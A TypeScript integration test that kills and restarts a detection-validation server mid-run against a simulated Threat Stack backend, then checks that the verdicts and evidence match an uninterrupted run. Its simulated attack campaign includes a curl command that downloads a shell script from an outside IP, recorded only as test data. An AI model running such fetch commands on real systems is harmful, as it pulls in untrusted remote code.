import { type ChildProcessWithoutNullStreams, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import pino from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseSettings } from '../../src/app/settings.ts';
import type { ValidationReport } from '../../src/app/validation-report.ts';
import { runPollsInProcess } from '../../src/app/validation-runner.ts';
import { openVigil, type Vigil } from '../../src/app/vigil.ts';
import {
  type RunningThreatStackSimulator,
  startThreatStackSimulator,
} from '../../src/simulators/threatstack/server.ts';
import { testPostgresUrl } from '../../src/store/testing.ts';
import { repoRoot } from '../helpers/cli.ts';
import { admin } from '../helpers/threatstack.ts';

/**
 * The real program, killed: `vigil serve` (spawned, on a temporary home; SQLite, and PostgreSQL on
 * a fresh schema when VIGIL_TEST_PG_URL is set) runs the polls of an imported validation against the Threat Stack simulator (in process, real clock), is SIGKILLed
 * once some polls are recorded and before the last, and is started again on the same home. It
 * must finish with the verdicts an uninterrupted run gives and record no poll or evidence twice.
 * Real time cannot be avoided across processes, so the actions are dated 40 s in the past: with
 * Q = 1 min and I = 5 s (13 polls each) most polls are due at once and the rest within ~30 s.
 * Two serve start-ups dominate its time (about 100 s on a loaded 2-core machine); every wait is a
 * bounded read loop.
 */

const QUERY_INTERVAL_S = 5;
const POLLS = 60 / QUERY_INTERVAL_S + 1;
/** How long ago the first action ran: polls up to this are due at once, the rest come later. */
const PAST_MS = 40_000;

/** The campaign: offsets from its start, techniques and distinct commands (identity by command line). */
const campaign = [
  { offsetMs: 0, technique: 'T1059.004', command: 'sh -c "echo restart-a1"', expected: 'Alerted' },
  {
    offsetMs: 1000,
    technique: 'T1105',
    command: 'curl -s http://203.0.113.7/restart-a2.sh',
    expected: 'Alerted',
  },
  { offsetMs: 2000, technique: 'T1033', command: 'whoami # restart-a3', expected: 'Missed' },
  { offsetMs: 3000, technique: 'T1082', command: 'uname -a # restart-a4', expected: 'Missed' },
  // Joins the first action's alert (raised 2 s after it; aggregation by exe, user, hostname): Detected.
  { offsetMs: 10_000, technique: 'T1059.004', command: 'sh -c "echo restart-a5"', expected: 'Detected' },
];

const backends = [
  { name: 'sqlite', url: undefined as string | undefined, available: true },
  { name: 'postgres', url: testPostgresUrl, available: testPostgresUrl !== undefined },
];

describe.each(backends)('vigil serve killed mid-validation on $name', (backend) => {
  let sim: RunningThreatStackSimulator;
  let home: string;
  let env: NodeJS.ProcessEnv;
  let vigil: Vigil | undefined;
  let schema: string | undefined;
  const children: ChildProcessWithoutNullStreams[] = [];

  beforeEach(async (context) => {
    if (!backend.available) context.skip();
    sim = await startThreatStackSimulator({
      agents: 4,
      offlineRatio: 0,
      alerts: 0,
      cves: 5,
      findingsPerAgent: 1,
      rateLimit: 0,
      detectionLatencySeconds: 2,
    });
    home = await mkdtemp(join(tmpdir(), 'vigil-serve-restart-'));
    env = { ...process.env, VIGIL_HOME: home, VIGIL_SECRET_KEY: randomBytes(32).toString('base64') };
    delete env.VIGIL_DB;
    delete env.VIGIL_PG_SCHEMA;
    delete env.VIGIL_QUEUE_SCHEMA;
    if (backend.url !== undefined) {
      schema = `vigil_restart_${randomBytes(5).toString('hex')}`;
      env.VIGIL_DB = backend.url;
      env.VIGIL_PG_SCHEMA = schema;
    }
    vigil = await openVigil(parseSettings({ env }));
    const url = new URL(sim.url);
    await vigil.integrations.add(
      {
        kind: 'threatstack',
        name: 'ts',
        apiKey: sim.credentials.apiKey,
        fields: {
          host: url.hostname,
          port: Number(url.port),
          protocol: 'http',
          userId: sim.credentials.userId,
          orgId: sim.credentials.orgId,
          orgName: sim.credentials.orgName,
          requestsPerMinute: 0,
          queryTimeMinutes: 1,
          queryIntervalSeconds: QUERY_INTERVAL_S,
        },
      },
      { firstSync: false },
    );
    const rules = [
      {
        technique: 'T1059.004',
        enabled: true,
        latencySeconds: 2,
        aggregateFields: ['exe', 'user', 'hostname'],
      },
      { technique: 'T1105', enabled: true, latencySeconds: 2 },
      { technique: 'T1033', enabled: false },
      { technique: 'T1082', enabled: false },
    ];
    const put = await admin(sim.url, 'PUT', '/_sim/detection', { aggregateAlerts: true, rules });
    expect(put.status).toBe(200);
  });

  afterEach(async () => {
    for (const child of children.splice(0)) await stop(child, 'SIGKILL');
    await vigil?.close();
    vigil = undefined;
    await sim?.close();
    if (home !== undefined) await rm(home, { recursive: true, force: true });
    if (backend.url !== undefined && schema !== undefined) {
      const client = new pg.Client({ connectionString: backend.url });
      await client.connect();
      try {
        await client.query(`DROP SCHEMA IF EXISTS "${schema}" CASCADE`);
        await client.query(`DROP SCHEMA IF EXISTS "${schema}_queue" CASCADE`);
      } finally {
        await client.end();
      }
    }
  });

  /** Sends `signal` to a child still running and waits for it to close. */
  async function stop(child: ChildProcessWithoutNullStreams, signal: NodeJS.Signals): Promise<void> {
    if (child.exitCode !== null || child.signalCode !== null) return;
    const closed = new Promise((resolve) => child.once('close', resolve));
    child.kill(signal);
    await closed;
  }

  /** `vigil serve --port 0 --json` on the test's home; resolves once it printed its URL. */
  async function startServe(): Promise<ChildProcessWithoutNullStreams> {
    const child = spawn(
      process.execPath,
      [
        join(repoRoot, 'bin', 'vigil.js'),
        'serve',
        '--port',
        '0',
        '--json',
        '--tick',
        '1',
        '--job-lease',
        '10s',
      ],
      { cwd: repoRoot, env, stdio: ['pipe', 'pipe', 'pipe'] },
    );
    children.push(child);
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
      stderr = (stderr + chunk).slice(-4000);
    });
    await new Promise<void>((resolve, reject) => {
      let stdout = '';
      const timer = setTimeout(() => reject(new Error(`serve printed no URL in 90 s: ${stderr}`)), 90_000);
      child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
        stdout += chunk;
        const line = stdout.split('\n')[0] ?? '';
        if (!stdout.includes('\n')) return;
        clearTimeout(timer);
        const { url } = JSON.parse(line) as { url: string };
        expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
        resolve();
      });
      child.once('close', (code) => {
        clearTimeout(timer);
        reject(new Error(`serve exited (${code}) before printing its URL: ${stderr}`));
      });
    });
    return child;
  }

  /** Reads the validation until `done` says so; bounded (fails after `timeoutMs`), 250 ms between reads. */
  async function until(
    id: string,
    done: (report: ValidationReport) => boolean,
    timeoutMs: number,
  ): Promise<ValidationReport> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const report = await vigil!.validations.show(id);
      if (done(report)) return report;
      if (Date.now() > deadline) {
        const progress = report.actions.map((a) => a.progress.pollsDone).join(',');
        throw new Error(`validation ${id} not there in ${timeoutMs} ms (polls done ${progress})`);
      }
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
  }

  /** Runs the campaign on the simulator, dated in the past; returns the ATTiRe log of it. */
  async function runCampaign(): Promise<string> {
    const hostname = sim.simulation.primary.agents.hostname(0);
    const start = Date.now() - PAST_MS;
    const procedures = [];
    for (const [i, step] of campaign.entries()) {
      const time = new Date(start + step.offsetMs).toISOString();
      const recorded = await admin(sim.url, 'POST', '/_sim/actions', {
        technique: step.technique,
        hostname,
        commandLine: step.command,
        time,
      });
      expect(recorded.status).toBe(201);
      procedures.push({
        'mitre-technique-id': step.technique,
        'procedure-name': `restart test ${i + 1}`,
        order: i + 1,
        steps: [{ order: 1, 'time-start': time, 'time-stop': time, command: step.command, 'exit-code': 0 }],
      });
    }
    const log = {
      'attire-version': '1.1',
      'execution-data': {
        'execution-source': 'Invoke-Atomicredteam',
        'execution-id': randomBytes(12).toString('base64'),
        target: { user: 'root', host: hostname.split('.')[0] },
      },
      procedures,
    };
    const file = join(home, 'campaign.json');
    await writeFile(file, JSON.stringify(log));
    return file;
  }

  function byAction(report: ValidationReport) {
    return Object.fromEntries(
      report.actions.map((a) => {
        const { evidence } = a.correlation as {
          evidence: { alerts: Array<{ alertId: string }>; events: Array<{ eventId: string }> };
        };
        const alertIds = evidence.alerts.map((e) => e.alertId).sort();
        const eventIds = evidence.events.map((e) => e.eventId).sort();
        return [a.action.id, { verdict: a.verdict, alertIds, eventIds }];
      }),
    );
  }

  it('restarted on the same home, it finishes with the verdicts of an uninterrupted run, each poll and piece of evidence once', async () => {
    const file = await runCampaign();
    const text = await readFile(file, 'utf8');
    const { id } = await vigil!.validations.import({ integration: 'ts', text, file });

    const first = await startServe();
    const midway = await until(id, (r) => r.actions.some((a) => a.progress.pollsDone > 0), 60_000);
    await stop(first, 'SIGKILL');
    expect(first.signalCode).toBe('SIGKILL');
    // Killed after at least one poll was recorded and before the last one of every action could be.
    const killedAt = await vigil!.validations.show(id);
    expect(midway.status).toBe('running');
    expect(killedAt.status).toBe('running');
    expect(killedAt.actions.some((a) => a.progress.pollsDone < POLLS)).toBe(true);

    const second = await startServe();
    const report = await until(id, (r) => r.status === 'complete', 120_000);
    expect(report.verdicts).toEqual({ Alerted: 2, Missed: 2, Detected: 1 });
    expect(report.actions.map((a) => [a.action.technique, a.verdict])).toEqual(
      campaign.map((step) => [step.technique, step.expected]),
    );
    for (const action of report.actions) {
      const indexes = action.progress.windowsSearched.map((w) => w.index);
      expect(indexes).toEqual(Array.from({ length: POLLS }, (_, i) => i));
      const { alertIds, eventIds } = byAction(report)[action.action.id]!;
      expect(new Set(alertIds).size).toBe(alertIds.length);
      expect(new Set(eventIds).size).toBe(eventIds.length);
    }

    // The uninterrupted reference: the same log imported again, its polls (all due now) run in
    // this process with nothing killed; same action ids (imports derive them from the log).
    await stop(second, 'SIGTERM');
    const again = await vigil!.validations.import({ integration: 'ts', text, file });
    const deadline = Date.now() + 120_000;
    const [reference] = await runPollsInProcess(vigil!, [again.id], {
      logger: pino({ level: 'silent' }),
      tickMs: 100,
      sleep: async (ms) => {
        if (Date.now() > deadline) throw new Error('the uninterrupted run did not finish in 120 s');
        await new Promise((resolve) => setTimeout(resolve, ms));
      },
    });
    expect(byAction(report)).toEqual(byAction(reference!));
  }, 300_000);
});
